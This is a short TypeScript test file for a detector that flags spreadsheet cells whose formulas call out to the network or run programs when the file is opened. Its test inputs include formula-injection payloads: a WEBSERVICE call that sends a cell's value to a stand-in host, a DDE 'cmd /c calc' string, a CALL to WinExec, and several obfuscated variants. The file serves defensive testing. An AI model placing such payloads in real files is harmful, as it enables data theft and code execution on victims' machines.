import { expect, test } from 'vitest'
import { runsFormula } from './office-dangers.ts'

const cell = (inside: string) => `<sheetData><row><c r="A1">${inside}</c></row></sheetData>`

test.each([
  '<f>WEBSERVICE("https://a.example/?"&amp;A2)</f>',
  '<f>_xlfn.WEBSERVICE (A1)</f>',
  '<x:f>_xlfn._xlws.IMAGE(A1)</x:f>',
  '<f>1+&#87;EBSERVICE(A1)</f>',
  '<f><![CDATA[WEBSERVICE(A1)]]></f>',
  `<f>cmd|'/c calc'!A0</f>`,
  '<f>RTD("a",,"b")</f>',
  '<f>CALL("Kernel32","WinExec")</f>',
  '<conditionalFormatting><formula>WEBSERVICE(A1)&gt;1</formula></conditionalFormatting>',
  '<definedNames><definedName name="a">WEBSERVICE(A1)</definedName></definedNames>',
])('%s is refused: it asks another address or runs a program when the file is opened', (inside) => {
  expect(runsFormula(cell(inside))).toBe(true)
})

test.each([
  '<f>SUM(A1:A9)</f>',
  '<f t="shared" si="0"/>',
  '<f>IF(A1=&quot;a|b&quot;,1,2)</f>',
  `<f>'Доля|всего'!A1</f>`,
  '<f>HYPERLINK("https://a.example","Сайт")</f>',
  '<f>MYIMAGE(A1)</f>',
  '<v>WEBSERVICE(A1)</v>',
  '<is><t>WEBSERVICE("https://a.example")</t></is>',
])('%s is an ordinary cell', (inside) => {
  expect(runsFormula(cell(inside))).toBe(false)
})
